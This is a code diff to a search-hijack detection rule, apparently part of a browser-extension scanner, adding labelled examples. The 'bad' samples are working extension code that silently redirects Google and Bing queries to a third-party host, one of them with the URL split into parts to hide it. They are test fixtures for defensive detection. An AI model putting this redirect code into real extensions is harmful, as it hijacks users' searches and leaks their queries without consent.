@@ -27,6 +27,23 @@ export const searchHijack = defineRule({
   examples: {
     bad: [
       backgroundExample(
+        'const go = (q) => ({ redirectUrl: "https://find.example/s?q=" + q }); chrome.webRequest.onBeforeRequest.addListener((d) => { const q = new URL(d.url).searchParams.get("q"); return q ? go(q) : {}; }, { urls: ["*://*.google.com/search*"] }, ["blocking"]);',
+      ),
+      contentExample(
+        'const u = new URL(location.href); if (/(google|bing)\\./.test(u.host)) { const q = u.searchParams.get("q"); if (q) window.location = `https://find.example/s?q=${q}`; }',
+        { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] },
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}, "chrome_settings_overrides": {"search_provider": {"name": "Find", "search_url": "https://find.example/s?q={searchTerms}", "is_default": true}}}',
+          'background.js':
+            'import { queryOf } from "./engines.js"; const parts = ["https:", "", "find.example", "s"]; chrome.webNavigation.onBeforeNavigate.addListener((d) => { const q = queryOf(d.url); if (!q) return; const u = new URL(parts.join("/")); u.searchParams.append("q", q); chrome.tabs.update(d.tabId, { url: u.href }); });',
+          'engines.js':
+            'const engines = [{ host: /(^|\\.)google\\./, param: "q" }, { host: /(^|\\.)bing\\.com$/, param: "q" }]; export function queryOf(href) { const u = new URL(href); const one = engines.find(({ host }) => host.test(u.hostname)); return one ? u.searchParams.get(one.param) : null; }',
+        },
+      },
+      backgroundExample(
         'const pages = { "www.google.com": "q", "www.bing.com": "q", "search.yahoo.com": "p" }; chrome.webRequest.onBeforeRequest.addListener((d) => { const u = new URL(d.url); const asked = u.searchParams.get(pages[u.hostname]); if (!asked) return {}; const to = new URL("https://find.clock.example/r"); to.searchParams.set("k", asked); return { redirectUrl: to.href }; }, { urls: ["*://*.google.com/search*", "*://*.bing.com/search*"], types: ["main_frame"] }, ["blocking"]);',
       ),
       backgroundExample(
@@ -95,6 +112,10 @@ export const searchHijack = defineRule({
       ),
     ],
     good: [
+      contentExample(
+        'const u = new URL(location.href); if (/(google|bing)\\./.test(u.host) && u.searchParams.get("q") && !u.searchParams.has("udm")) window.location = `https://www.google.com/search?udm=14&q=${u.searchParams.get("q")}`;',
+        { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] },
+      ),
       exampleRedirect(
         { regexSubstitution: 'https://www.google.com/search?udm=14&q=\\1' },
         { regexFilter: '^https://www\\.google\\.com/search\\?q=([^&]+)', resourceTypes: ['main_frame'] },
